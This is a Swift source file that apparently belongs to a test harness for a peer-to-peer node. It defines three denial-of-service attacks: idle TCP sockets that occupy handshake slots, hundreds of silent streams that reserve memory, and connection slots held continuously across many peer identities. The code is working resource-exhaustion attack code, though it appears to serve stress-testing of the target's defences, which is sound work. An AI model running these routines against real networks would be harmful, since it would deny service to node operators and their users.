import Foundation
import Host
import NIOCore
import NIOPosix
import Ping
import Transport

/// Attacks on the target's connection, handshake and stream slots.
extension Attack {
    // MARK: Row 1: handshake slots

    /// 70 TCP sockets from one address that never speak, each reopened when
    /// the target closes it (at its handshake deadline or at once when over
    /// the address's share).
    func holdHandshakeSlots() async throws -> String {
        let (_, _, ip, port) = try target()
        let source = options.source(0)
        let sockets = 70
        let open = AttackCounter()
        let opened = AttackCounter()
        let closedByTarget = AttackCounter()
        var channels: [any Channel] = []
        var failures = 0
        while running {
            while open.value < sockets, running {
                do {
                    let channel = try await ClientBootstrap(group: group)
                        .connectTimeout(.seconds(2))
                        .bind(to: SocketAddress(ipAddress: source, port: 0))
                        .connect(host: ip, port: port).get()
                    open.add()
                    opened.add()
                    channel.closeFuture.whenComplete { _ in
                        open.add(-1)
                        closedByTarget.add()
                    }
                    channels.append(channel)
                } catch {
                    failures += 1
                    break
                }
            }
            channels.removeAll { !$0.isActive }
            await pause()
        }
        let closedBefore = closedByTarget.value
        for channel in channels { try? await channel.close() }
        return "\(opened.value) idle sockets opened from \(source) (\(sockets) held at a time), "
            + "\(closedBefore) closed by the target, \(failures) connects failed"
    }

    // MARK: Row 2: idle stream reservations

    /// 48 peer ids from 2 addresses, each opening up to 256 ping streams that
    /// never send: each reserves a receive window of the target's memory budget.
    func reserveIdleStreams() async throws -> String {
        let (address, _, _, _) = try target()
        let identities = 48
        let streamsEach = 256
        let held = AttackCounter()
        let refused = AttackCounter()
        let connected = AttackCounter()
        let end = self.end
        // Each identity's host and the streams it holds.
        let holders = await withIdentities(identities, from: 2) { _, host -> (Libp2pHost, [MuxedStream]) in
            guard let connection = try? await host.connect(address) else { return (host, []) }
            connected.add()
            var streams: [MuxedStream] = []
            for _ in 0..<streamsEach where ContinuousClock.now < end {
                guard let stream = try? await connection.newStream(protocols: [PingService.protocolID]) else {
                    refused.add()
                    break  // over this address's share: the next ones would be reset too
                }
                streams.append(stream)
                held.add()
            }
            return (host, streams)
        }
        while running { await pause(.seconds(1)) }
        let streams = holders.flatMap(\.1)
        let stillOpen = streams.count { $0.connection.isActive }
        for stream in streams { stream.reset() }
        for (host, _) in holders { await host.close() }
        return "\(connected.value) of \(identities) peer ids from 2 addresses connected, \(held.value) idle ping streams opened "
            + "(\(stillOpen) on connections still open at the end), \(refused.value) identities refused a stream"
    }

    // MARK: Row 10: connection slots

    /// 16 peer ids from each of 20 addresses stay connected: every second a
    /// connection the target closed is replaced by a fresh identity's.
    func holdConnectionSlots() async throws -> String {
        let (address, peer, _, _) = try target()
        let addresses = 20
        let perAddress = 16
        var slots: [Libp2pHost?] = Array(repeating: nil, count: addresses * perAddress)
        var dials = 0
        var failed = 0
        var replaced = 0
        while running {
            let stale = slots.indices.filter { slots[$0]?.connection(to: peer) == nil }
            let results = await withTaskGroup(of: (Int, Libp2pHost?).self) { tasks in
                for index in stale {
                    let old = slots[index]
                    let source = options.source(index % addresses)
                    tasks.addTask {
                        await old?.close()
                        guard let host = try? await attacker(from: source) else { return (index, nil) }
                        let connected = try? await withThrowingTaskGroup(of: Bool.self) { race in
                            race.addTask { _ = try await host.connect(address); return true }
                            race.addTask { try await Task.sleep(for: .seconds(5)); return false }
                            defer { race.cancelAll() }
                            return try await race.next() ?? false
                        }
                        if connected == true { return (index, host) }
                        await host.close()
                        return (index, nil)
                    }
                }
                var results: [(Int, Libp2pHost?)] = []
                for await result in tasks { results.append(result) }
                return results
            }
            for (index, host) in results {
                if slots[index] != nil { replaced += 1 }
                dials += 1
                if host == nil { failed += 1 }
                slots[index] = host
            }
            await pause(.seconds(1))
        }
        let holding = slots.count { $0?.connection(to: peer) != nil }
        for host in slots { await host?.close() }
        return "\(addresses) addresses x \(perAddress) peer ids: \(dials) dials (\(failed) failed), "
            + "\(replaced) redials of connections the target closed, \(holding) held at the end"
    }
}
